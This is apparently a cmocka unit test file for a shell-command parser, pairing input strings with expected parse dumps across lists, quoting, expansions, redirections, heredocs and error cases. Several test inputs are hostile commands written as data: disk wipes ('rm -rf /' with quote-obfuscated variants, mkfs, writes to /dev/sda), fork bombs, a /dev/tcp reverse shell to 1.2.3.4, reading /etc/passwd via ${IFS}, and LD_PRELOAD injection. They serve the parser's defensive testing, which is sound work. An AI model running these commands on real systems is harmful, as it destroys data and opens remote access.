/* test_shell.c -- the shell parser, case by case: each input and the
 * canonical dump (sh_dump) it must produce.  See shell.h for the format. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "broker/intent/arena.h"
#include "broker/intent/shell.h"

struct tcase {
	const char *in;
	const char *want;
};

static const struct tcase lists[] = {
	{ "ls", "[ls]" },
	{ "ls -la /tmp", "[ls -la /tmp]" },
	{ "  ls   -la  ", "[ls -la]" },
	{ "a; b", "[a]; [b]" },
	{ "a;b;c", "[a]; [b]; [c]" },
	{ "a && b", "[a] && [b]" },
	{ "a || b", "[a] || [b]" },
	{ "a && b || c", "[a] && [b] || [c]" },
	{ "a &", "[a] &" },
	{ "a & b", "[a] & [b]" },
	{ "a&b&", "[a] & [b] &" },
	{ "a | b", "[a] | [b]" },
	{ "a | b | c", "[a] | [b] | [c]" },
	{ "a |& b", "[a] | [b]" },
	{ "a\nb", "[a]; [b]" },
	{ "a\n\n\nb\n", "[a]; [b]" },
	{ "a;\nb", "[a]; [b]" },
	{ "a &&\nb", "[a] && [b]" },
	{ "a ||\n\n b", "[a] || [b]" },
	{ "a |\n b", "[a] | [b]" },
	{ "! a", "! [a]" },
	{ "! a | b", "! [a] | [b]" },
	{ "time a", "time [a]" },
	{ "time -p a | b", "time [a] | [b]" },
	{ "a # comment", "[a]" },
	{ "# only a comment", "" },
	{ "a #c\nb", "[a]; [b]" },
	{ "a#b", "[a#b]" },
	{ "echo a\\\nb", "[echo ab]" },
	{ "echo a \\\n b", "[echo a b]" },
	{ "", "" },
	{ "   \n\t\n", "" },
	{ "a;", "[a]" },
	{ "a &&b||c", "[a] && [b] || [c]" },
	{ "true && mkfs.ext4 /dev/sda1", "[true] && [mkfs.ext4 /dev/sda1]" },
	{ "ls; reboot", "[ls]; [reboot]" },
	{ "echo x | rm -rf /", "[echo x] | [rm -rf /]" },
};

static const struct tcase quoting[] = {
	{ "echo 'a b'", "[echo \"a b\"]" },
	{ "echo \"a b\"", "[echo \"a b\"]" },
	{ "echo a'b'c", "[echo abc]" },
	{ "echo a\"b\"c", "[echo abc]" },
	{ "echo ''", "[echo \"\"]" },
	{ "echo \"\"", "[echo \"\"]" },
	{ "echo 'it'\\''s'", "[echo \"it's\"]" },
	{ "echo \"a\\\"b\"", "[echo \"a\\\"b\"]" },
	{ "echo \"a\\$b\"", "[echo \"a\\$b\"]" },
	{ "echo \"a\\\\b\"", "[echo \"a\\\\b\"]" },
	{ "echo \"a\\nb\"", "[echo \"a\\\\nb\"]" },
	{ "echo 'a\\nb'", "[echo \"a\\\\nb\"]" },
	{ "echo \\$HOME", "[echo \"\\$HOME\"]" },
	{ "echo \\'", "[echo \"'\"]" },
	{ "echo \\\"", "[echo \"\\\"\"]" },
	{ "echo a\\ b", "[echo \"a b\"]" },
	{ "echo $'a\\nb'", "[echo \"a\\nb\"]" },
	{ "echo $'\\x41\\x42'", "[echo AB]" },
	{ "echo $'\\101'", "[echo A]" },
	{ "echo $'\\u00e9'", "[echo \"\xc3\xa9\"]" },
	{ "echo $'\\t'", "[echo \"\\t\"]" },
	{ "echo $'it\\'s'", "[echo \"it's\"]" },
	{ "echo $'\\e[1m'", "[echo \"\\x1b[1m\"]" },
	{ "echo $\"hi\"", "[echo hi]" },
	{ "echo \"$'x'\"", "[echo \"\\$'x'\"]" },
	{ "echo '$(date)'", "[echo \"\\$(date)\"]" },
	{ "echo \"$(date)\"", "[echo $([date])]" },
	{ "echo \"a $(b) c\"", "[echo \"a $([b]) c\"]" },
	{ "echo 'a\"b'", "[echo \"a\\\"b\"]" },
	{ "echo \"a'b\"", "[echo \"a'b\"]" },
	{ "r''m -rf /", "[rm -rf /]" },
	{ "\\rm -rf /", "[rm -rf /]" },
	{ "'rm' -rf /", "[rm -rf /]" },
	{ "\"rm\" -rf \"/\"", "[rm -rf /]" },
	{ "echo \"multi\nline\"", "[echo \"multi\\nline\"]" },
	{ "echo 'multi\nline'", "[echo \"multi\\nline\"]" },
	{ "bash -lc 'sed -n '\"'\"'1,5p'\"'\"' file.txt'", "[bash -lc \"sed -n '1,5p' file.txt\"]" },
	{ "bash -lc ''\"'\"'git status'\"'\"''", "[bash -lc \"'git status'\"]" },
	{ "echo $'\\cA'", "[echo \"\\x01\"]" },
	{ "echo \"tab\there\"", "[echo \"tab\\there\"]" },
};

static const struct tcase expansions[] = {
	{ "echo $HOME", "[echo ${HOME}]" },
	{ "echo ${HOME}", "[echo ${HOME}]" },
	{ "echo \"$HOME\"", "[echo ${HOME}]" },
	{ "echo $HOME/x", "[echo ${HOME}/x]" },
	{ "echo ${HOME}x", "[echo ${HOME}x]" },
	{ "echo $1 $@ $# $? $$ $! $-", "[echo ${1} ${@} ${#} ${?} ${$} ${!} ${-}]" },
	{ "echo ${10}", "[echo ${10}]" },
	{ "echo ${x:-def}", "[echo ${x:-def}]" },
	{ "echo ${x:=d}", "[echo ${x:=d}]" },
	{ "echo ${x:+y}", "[echo ${x:+y}]" },
	{ "echo ${#x}", "[echo ${x}]" },
	{ "echo ${x%.txt}", "[echo ${x%.txt}]" },
	{ "echo ${x//a/b}", "[echo ${x//a/b}]" },
	{ "echo ${x:0:1}", "[echo ${x:0:1}]" },
	{ "echo ${!x}", "[echo ${x}]" },
	{ "echo ${x:-$(rm -rf /)}", "[echo ${x:-\\$(rm -rf /)}]" },
	{ "echo $", "[echo \"\\$\"]" },
	{ "echo $ x", "[echo \"\\$\" x]" },
	{ "echo a$", "[echo \"a\\$\"]" },
	{ "echo $(date)", "[echo $([date])]" },
	{ "echo $(ls -la | wc -l)", "[echo $([ls -la] | [wc -l])]" },
	{ "echo $(echo $(date))", "[echo $([echo $([date])])]" },
	{ "echo `date`", "[echo $([date])]" },
	{ "echo `echo \\`date\\``", "[echo $([echo $([date])])]" },
	{ "echo \"`date`\"", "[echo $([date])]" },
	{ "echo $((1 + 2))", "[echo $((1 + 2))]" },
	{ "echo $(( $(a) + 1 ))", "[echo $(( \\$(a) + 1 ))]" },
	{ "echo $((1 + (2 * 3)))", "[echo $((1 + (2 * 3)))]" },
	{ "echo $( (a) )", "[echo $(([a]))]" },
	{ "diff <(ls a) <(ls b)", "[diff <([ls a]) <([ls b])]" },
	{ "tee >(wc -l)", "[tee >([wc -l])]" },
	{ "echo ~", "[echo ~]" },
	{ "echo ~/x", "[echo ~/x]" },
	{ "echo ~root/x", "[echo ~root/x]" },
	{ "echo a~b", "[echo a~b]" },
	{ "echo \"~\"", "[echo ~]" },
	{ "ls *.c", "[ls *.c]" },
	{ "ls [ab]*", "[ls [ab]*]" },
	{ "echo {a,b}", "[echo {a,b}]" },
	{ "echo $(case x in a) echo y;; esac)", "[echo $(case x a([echo y]))]" },
	{ "cat${IFS}/etc/passwd", "[cat${IFS}/etc/passwd]" },
	{ "echo $(\n date\n)", "[echo $([date])]" },
	{ "echo $(a;b)", "[echo $([a]; [b])]" },
	{ "x=$(mktemp -d)", "[{x=$([mktemp -d])}]" },
	{ "echo ${x:-\"a b\"}", "[echo ${x:-\\\"a b\\\"}]" },
};

static const struct tcase redirs[] = {
	{ "echo hi > f", "[echo hi >f]" },
	{ "echo hi >f", "[echo hi >f]" },
	{ "echo hi >> f", "[echo hi >>f]" },
	{ "cat < f", "[cat <f]" },
	{ "cmd 2> err", "[cmd 2>err]" },
	{ "cmd 2>&1", "[cmd 2>&1]" },
	{ "cmd >&2", "[cmd >&2]" },
	{ "cmd > out 2>&1", "[cmd >out 2>&1]" },
	{ "cmd &> all", "[cmd &>all]" },
	{ "cmd &>> all", "[cmd &>>all]" },
	{ "cmd >& file", "[cmd &>file]" },
	{ "cmd >| f", "[cmd >|f]" },
	{ "cmd <> f", "[cmd <>f]" },
	{ "cmd 3<&0", "[cmd 3<&0]" },
	{ "cmd 2>&-", "[cmd 2>&-]" },
	{ "exec 3<>/dev/tcp/h/80", "[exec 3<>/dev/tcp/h/80]" },
	{ "> f", "[>f]" },
	{ ">f echo hi", "[echo hi >f]" },
	{ "echo a>b", "[echo a >b]" },
	{ "echo a2>b", "[echo a2 >b]" },
	{ "echo 2>b", "[echo 2>b]" },
	{ "cmd {fd}>f", "[cmd {var}>f]" },
	{ "cat <<< 'here string'", "[cat <<<\"here string\"]" },
	{ "cat <<<$x", "[cat <<<${x}]" },
	{ "echo bad > /dev/sda", "[echo bad >/dev/sda]" },
	{ "cat /dev/urandom > /dev/sdb", "[cat /dev/urandom >/dev/sdb]" },
	{ "echo > \"$f\"", "[echo >${f}]" },
	{ "cmd > $(mktemp)", "[cmd >$([mktemp])]" },
	{ "bash -i >& /dev/tcp/1.2.3.4/80 0>&1", "[bash -i &>/dev/tcp/1.2.3.4/80 0>&1]" },
	{ "a=1 > f", "[{a=1} >f]" },
};

static const struct tcase heredocs[] = {
	{ "cat <<EOF\nhello\nEOF", "[cat <<\"hello\\n\"]" },
	{ "cat <<EOF\nhello\nEOF\n", "[cat <<\"hello\\n\"]" },
	{ "cat <<'EOF'\n$x\nEOF", "[cat <<'\"\\$x\\n\"]" },
	{ "cat <<\"EOF\"\n$x\nEOF", "[cat <<'\"\\$x\\n\"]" },
	{ "cat <<\\EOF\n$x\nEOF", "[cat <<'\"\\$x\\n\"]" },
	{ "cat <<EOF\n$x $(date)\nEOF", "[cat <<\"${x} $([date])\\n\"]" },
	{ "cat <<EOF\n\\$x\nEOF", "[cat <<\"\\$x\\n\"]" },
	{ "cat <<-EOF\n\thello\n\tEOF", "[cat <<-\"\\thello\\n\"]" },
	{ "cat <<EOF > f\nx\nEOF\necho after", "[cat <<\"x\\n\" >f]; [echo after]" },
	{ "cat <<A <<B\na\nA\nb\nB", "[cat <<\"a\\n\" <<\"b\\n\"]" },
	{ "cat <<EOF | sh\nrm -rf /\nEOF", "[cat <<\"rm -rf /\\n\"] | [sh]" },
	{ "cat <<EOF\nnever ends", "[cat <<\"never ends\"]" },
	{ "cat <<EOF\n\nEOF", "[cat <<\"\\n\"]" },
	{ "cat <<EOF\nEOF", "[cat <<\"\"]" },
	{ "a <<X; b\nbody\nX\nc", "[a <<\"body\\n\"]; [b]; [c]" },
	{ "git commit -m \"$(cat <<'EOF'\nmsg\n\nmore\nEOF\n)\"", "[git commit -m $([cat <<'\"msg\\n\\nmore\\n\"])]" },
	{ "cat > /tmp/notes.txt <<'EOF'\nremember: shutdown -h now\nEOF", "[cat >/tmp/notes.txt <<'\"remember: shutdown -h now\\n\"]" },
	{ "python3 <<EOF\nprint(1)\nEOF", "[python3 <<\"print(1)\\n\"]" },
	{ "cat <<E\"O\"F\nx\nEOF", "[cat <<'\"x\\n\"]" },
	{ "while read l; do echo $l; done <<EOF\na\nEOF", "while([read l])([echo ${l}]) <<\"a\\n\"" },
};

static const struct tcase compound[] = {
	{ "(ls)", "([ls])" },
	{ "(a; b) | c", "([a]; [b]) | [c]" },
	{ "( (a) )", "(([a]))" },
	{ "{ a; b; }", "{ [a]; [b] }" },
	{ "{ a; } > f", "{ [a] } >f" },
	{ "{\na\n}", "{ [a] }" },
	{ "if a; then b; fi", "if([a])([b])" },
	{ "if a; then b; else c; fi", "if([a])([b])([c])" },
	{ "if a; then b; elif c; then d; else e; fi", "if([a])([b])([c])([d])([e])" },
	{ "if a\nthen\n b\nfi", "if([a])([b])" },
	{ "if [ -f x ]; then rm x; fi", "if([[ -f x ]])([rm x])" },
	{ "while true; do a; done", "while([true])([a])" },
	{ "until a; do b; done", "until([a])([b])" },
	{ "while read l; do echo $l; done < f", "while([read l])([echo ${l}]) <f" },
	{ "for i in 1 2 3; do echo $i; done", "for i in 1 2 3([echo ${i}])" },
	{ "for i; do echo $i; done", "for i([echo ${i}])" },
	{ "for i in $(ls); do rm $i; done", "for i in $([ls])([rm ${i}])" },
	{ "for f in *.txt\ndo\n cat $f\ndone", "for f in *.txt([cat ${f}])" },
	{ "for ((i=0; i<3; i++)); do echo $i; done", "for \"i=0; i<3; i++\"([echo ${i}])" },
	{ "for i in a b; { echo $i; }", "for i in a b([echo ${i}])" },
	{ "select x in a b; do echo $x; done", "select x in a b([echo ${x}])" },
	{ "case $x in a) echo a;; b|c) echo bc;; *) echo other;; esac", "case ${x} a([echo a]) b|c([echo bc]) *([echo other])" },
	{ "case x in (a) b;; esac", "case x a([b])" },
	{ "case x in a) b;& c) d;;& esac", "case x a([b]) c([d])" },
	{ "case x in\n a)\n  b\n  ;;\nesac", "case x a([b])" },
	{ "case x in a) ;; esac", "case x a()" },
	{ "case x in esac", "case x" },
	{ "[[ -f a && -r b ]]", "[[ -f a \"&&\" -r b ]]" },
	{ "[[ $a == b* ]] || c", "[[ ${a} == b* ]] || [c]" },
	{ "[[ ( a ) ]]", "[[ \"(\" a \")\" ]]" },
	{ "(( i++ ))", "(( i++ ))" },
	{ "(( $(a) > 1 )) && b", "(( \\$(a) > 1 )) && [b]" },
	{ "if (cd x; make); then :; fi", "if(([cd x]; [make]))([:])" },
	{ "a && { b || c; }", "[a] && { [b] || [c] }" },
	{ "{ :|:& };:", "{ [:] | [:] & }; [:]" },
};

static const struct tcase functions[] = {
	{ "f() { ls; }", "func f({ [ls] })" },
	{ "f () { ls; }", "func f({ [ls] })" },
	{ "function f { ls; }", "func f({ [ls] })" },
	{ "function f() { ls; }", "func f({ [ls] })" },
	{ "f() ( ls )", "func f(([ls]))" },
	{ ":(){ :|:& };:", "func :({ [:] | [:] & }); [:]" },
	{ "f() { a; }; f", "func f({ [a] }); [f]" },
	{ "f()\n{\n a\n}", "func f({ [a] })" },
	{ "bomb() { bomb | bomb & }; bomb", "func bomb({ [bomb] | [bomb] & }); [bomb]" },
	{ "function g\n{ b; }", "func g({ [b] })" },
};

static const struct tcase assigns[] = {
	{ "a=1", "[{a=1}]" },
	{ "a=1 b=2", "[{a=1} {b=2}]" },
	{ "a=1 cmd", "[{a=1} cmd]" },
	{ "a= cmd", "[{a=} cmd]" },
	{ "a=\"x y\" cmd", "[{\"a=x y\"} cmd]" },
	{ "a+=x", "[{a+=x}]" },
	{ "a[1]=x", "[{a[1]=x}]" },
	{ "a=(1 2 3)", "[{\"a=(1 2 3)\"}]" },
	{ "cmd a=1", "[cmd a=1]" },
	{ "\"a\"=1", "[a=1]" },
	{ "PATH=~/bin:~/x cmd", "[{PATH=~/bin:~/x} cmd]" },
	{ "LD_PRELOAD=./x.so ls", "[{LD_PRELOAD=./x.so} ls]" },
	{ "env A=1 B=2 cmd", "[env A=1 B=2 cmd]" },
	{ "export A=1", "[export A=1]" },
	{ "TF=$(mktemp).service", "[{TF=$([mktemp]).service}]" },
};

static const struct tcase nested_words[] = {
	{ "sh -c 'rm -rf /'", "[sh -c \"rm -rf /\"]" },
	{ "bash -lc \"ls && pwd\"", "[bash -lc \"ls && pwd\"]" },
	{ "sudo -u root rm -rf /", "[sudo -u root rm -rf /]" },
	{ "find . -name x -exec rm {} \\;", "[find . -name x -exec rm {} \";\"]" },
	{ "find . -exec rm {} +", "[find . -exec rm {} +]" },
	{ "find . -name file.txt -exec rm '{}' ';'", "[find . -name file.txt -exec rm {} \";\"]" },
	{ "xargs -0 rm -f", "[xargs -0 rm -f]" },
	{ "ssh host 'rm -rf /tmp/x'", "[ssh host \"rm -rf /tmp/x\"]" },
	{ "eval \"$cmd\"", "[eval ${cmd}]" },
	{ "python -c 'import os; os.system(\"id\")'", "[python -c \"import os; os.system(\\\"id\\\")\"]" },
	{ "awk '{print $1}' f", "[awk \"{print \\$1}\" f]" },
	{ "timeout 5 nice -n 10 cmd", "[timeout 5 nice -n 10 cmd]" },
	{ "watch -n 1 'ls | wc -l'", "[watch -n 1 \"ls | wc -l\"]" },
	{ "!/bin/sh", "[!/bin/sh]" },
	{ "! /bin/sh", "! [/bin/sh]" },
	{ "$(reboot)", "[$([reboot])]" },
	{ "`shutdown now`", "[$([shutdown now])]" },
	{ "{rm,-rf,/}", "[{rm,-rf,/}]" },
	{ "ls @(a|b)", "[ls \"@(a|b)\"]" },
	{ "echo !(x)", "[echo \"!(x)\"]" },
};

static const struct tcase bad[] = {
	{ "echo 'open", "[echo] #BAD[0+10 unterminated single quote]" },
	{ "echo \"open", "[echo] #BAD[0+10 unterminated double quote]" },
	{ "echo $(open", "[echo] #BAD[0+11 unterminated $(]" },
	{ "echo `open", "[echo] #BAD[0+10 unterminated backquote]" },
	{ "echo ${open", "[echo] #BAD[0+11 unterminated ${]" },
	{ "ls; )", "[ls] #BAD[4+1 unexpected ')']" },
	{ ")", "#BAD[0+1 unexpected ')']" },
	{ "a &&", "[a] #BAD[0+4 expected a command after && or ||]" },
	{ "a |", "#BAD[0+3 expected a command after '|']" },
	{ "; a", "#BAD[0+3 unexpected operator]" },
	{ "if a; then b", "#BAD[0+12 expected 'fi']" },
	{ "fi", "#BAD[0+2 unexpected reserved word]" },
	{ "done\nls", "[ls] #BAD[0+4 unexpected reserved word]" },
	{ "echo >", "#BAD[0+6 missing redirection target]" },
	{ "echo > ;", "#BAD[0+8 missing redirection target]" },
	{ "a (b)", "#BAD[0+5 expected ')' in function definition]" },
	{ "good\nbad 'x\ngood2", "[good]; [bad]; [good2] #BAD[5+6 unterminated single quote]" },
	{ "socket(S,PF_INET)", "#BAD[0+17 expected ')' in function definition]" },
	{ "(a", "#BAD[0+2 expected ')']" },
	{ "{ a", "#BAD[0+3 expected '}']" },
	{ "case x in a) b", "#BAD[0+14 unterminated case]" },
	{ "for do", "#BAD[0+6 expected 'do']" },
	{ "while a; do b", "#BAD[0+13 expected 'done']" },
	{ "echo $'\\", "#BAD[0+8 unterminated $'...']" },
	{ "[[ a", "#BAD[0+4 unterminated [[]" },
};

/* Run a table: each input must dump exactly as wanted.  A want ending in
 * "#BAD" only checks that prefix. */
static void
run_cases(const struct tcase *v, size_t n)
{
	int fails = 0;

	for (size_t k = 0; k < n; k++) {
		arena *a = arena_new(4096);
		struct sh_script *s;
		char buf[4096];
		size_t wl = strlen(v[k].want);
		bool prefix = wl >= 4 && strcmp(v[k].want + wl - 4, "#BAD") == 0;

		assert_non_null(a);
		s = sh_parse(a, v[k].in, strlen(v[k].in));
		assert_non_null(s);
		sh_dump(s, buf, sizeof buf);
		if (prefix ? strncmp(buf, v[k].want, wl) != 0 : strcmp(buf, v[k].want) != 0) {
			print_error("input: %s\n  want: %s\n  got:  %s\n", v[k].in, v[k].want, buf);
			fails++;
		}
		arena_free(a);
	}
	assert_int_equal(fails, 0);
}

#define CASES(name)                                              \
	static void test_##name(void **state)                        \
	{                                                            \
		(void)state;                                             \
		run_cases(name, sizeof name / sizeof name[0]);           \
	}
CASES(lists)
CASES(quoting)
CASES(expansions)
CASES(redirs)
CASES(heredocs)
CASES(compound)
CASES(functions)
CASES(assigns)
CASES(nested_words)
CASES(bad)

/* Details the dump does not show. */
static void
test_word_flags(void **state)
{
	arena *a = arena_new(4096);
	struct sh_script *s = sh_parse(a, "echo $'\\x41' *.c {a,b} \\x \"q\" $v $(c)", 37);
	const struct sh_node *n;

	(void)state;
	assert_non_null(s);
	assert_int_equal(s->nbad, 0);
	n = s->list->items[0].pl->cmds[0];
	assert_int_equal(n->nwords, 8);
	assert_true(n->words[1].flags & SH_W_ANSI);
	assert_true(n->words[2].flags & SH_W_GLOB);
	assert_true(n->words[3].flags & SH_W_BRACE);
	assert_true(n->words[4].flags & SH_W_ESCAPED);
	assert_true(n->words[5].flags & SH_W_QUOTED);
	assert_true(n->words[6].flags & SH_W_VAR);
	assert_true(n->words[7].flags & SH_W_SUBST);
	assert_false(n->words[0].flags & (SH_W_QUOTED | SH_W_GLOB));
	arena_free(a);
}

static void
test_heredoc_flags(void **state)
{
	arena *a = arena_new(4096);
	const char *src = "cat <<'E' <<-F\nx\nE\n\ty\n\tF\n";
	struct sh_script *s = sh_parse(a, src, strlen(src));
	const struct sh_node *n;

	(void)state;
	assert_int_equal(s->nbad, 0);
	n = s->list->items[0].pl->cmds[0];
	assert_int_equal(n->nredirs, 2);
	assert_true(n->redirs[0]->heredoc_quoted);
	assert_false(n->redirs[0]->heredoc_unterminated);
	assert_false(n->redirs[1]->heredoc_quoted);
	assert_true(n->redirs[1]->heredoc_strip);
	arena_free(a);
	a = arena_new(4096);
	s = sh_parse(a, "cat <<E\nno end", 14);
	assert_true(s->list->items[0].pl->cmds[0]->redirs[0]->heredoc_unterminated);
	arena_free(a);
}

/* Deep nesting is bounded: no crash, a bad span. */
static void
test_deep_nesting(void **state)
{
	static const char *const opens[] = { "( ", "$( ", "{ " };

	(void)state;
	for (size_t o = 0; o < 3; o++) {
		size_t depth = 5000, ol = strlen(opens[o]);
		char *src = malloc(depth * (ol + 4) + 8);
		size_t len = 0;
		arena *a = arena_new(4096);
		struct sh_script *s;

		for (size_t k = 0; k < depth; k++) {
			memcpy(src + len, opens[o], ol);
			len += ol;
		}
		src[len++] = 'a';
		for (size_t k = 0; k < depth; k++) {
			if (o == 2) {
				memcpy(src + len, "; }", 3);
				len += 3;
			} else {
				src[len++] = ')';
			}
		}
		s = sh_parse(a, src, len);
		assert_non_null(s);
		assert_true(s->nbad >= 1);
		arena_free(a);
		free(src);
	}
}

/* Huge and hostile inputs. */
static void
test_huge(void **state)
{
	size_t n = (size_t)1 << 20;
	char *src = malloc(SH_MAX_INPUT + 2);
	arena *a;
	struct sh_script *s;

	(void)state;
	/* 1 MiB of short commands */
	for (size_t k = 0; k < n; k += 4)
		memcpy(src + k, "ls;", k + 4 <= n ? 4 : n - k);
	for (size_t k = 3; k < n; k += 4)
		src[k] = '\n';
	a = arena_new(4096);
	s = sh_parse(a, src, n);
	assert_non_null(s);
	assert_int_equal(s->nbad, 0);
	assert_int_equal(s->list->nitems, n / 4);
	arena_free(a);
	/* over the limit: one bad span, nothing parsed */
	memset(src, 'a', SH_MAX_INPUT + 1);
	a = arena_new(4096);
	s = sh_parse(a, src, SH_MAX_INPUT + 1);
	assert_int_equal(s->nbad, 1);
	assert_int_equal(s->list->nitems, 0);
	arena_free(a);
	/* one very long word */
	a = arena_new(4096);
	s = sh_parse(a, src, n);
	assert_int_equal(s->nbad, 0);
	assert_int_equal(s->list->items[0].pl->cmds[0]->words[0].segs[0].n, n);
	arena_free(a);
	/* NUL bytes and control characters are just bytes */
	a = arena_new(4096);
	s = sh_parse(a, "echo a\0b\x01\x7f", 10);
	assert_int_equal(s->nbad, 0);
	assert_int_equal(s->list->items[0].pl->cmds[0]->words[1].segs[0].n, 5);
	arena_free(a);
	/* every prefix of a tricky command parses without crashing */
	{
		const char *t = "a=$(b \"c${d:-`e`}\" <<'F' | g) && { h || (i; j &) } > \"k\" 2>&1\nbody $x\nF\n";
		size_t tl = strlen(t);

		for (size_t k = 0; k <= tl; k++) {
			a = arena_new(256);
			s = sh_parse(a, t, k);
			assert_non_null(s);
			arena_free(a);
		}
	}
	free(src);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_lists),
		cmocka_unit_test(test_quoting),
		cmocka_unit_test(test_expansions),
		cmocka_unit_test(test_redirs),
		cmocka_unit_test(test_heredocs),
		cmocka_unit_test(test_compound),
		cmocka_unit_test(test_functions),
		cmocka_unit_test(test_assigns),
		cmocka_unit_test(test_nested_words),
		cmocka_unit_test(test_bad),
		cmocka_unit_test(test_word_flags),
		cmocka_unit_test(test_heredoc_flags),
		cmocka_unit_test(test_deep_nesting),
		cmocka_unit_test(test_huge),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
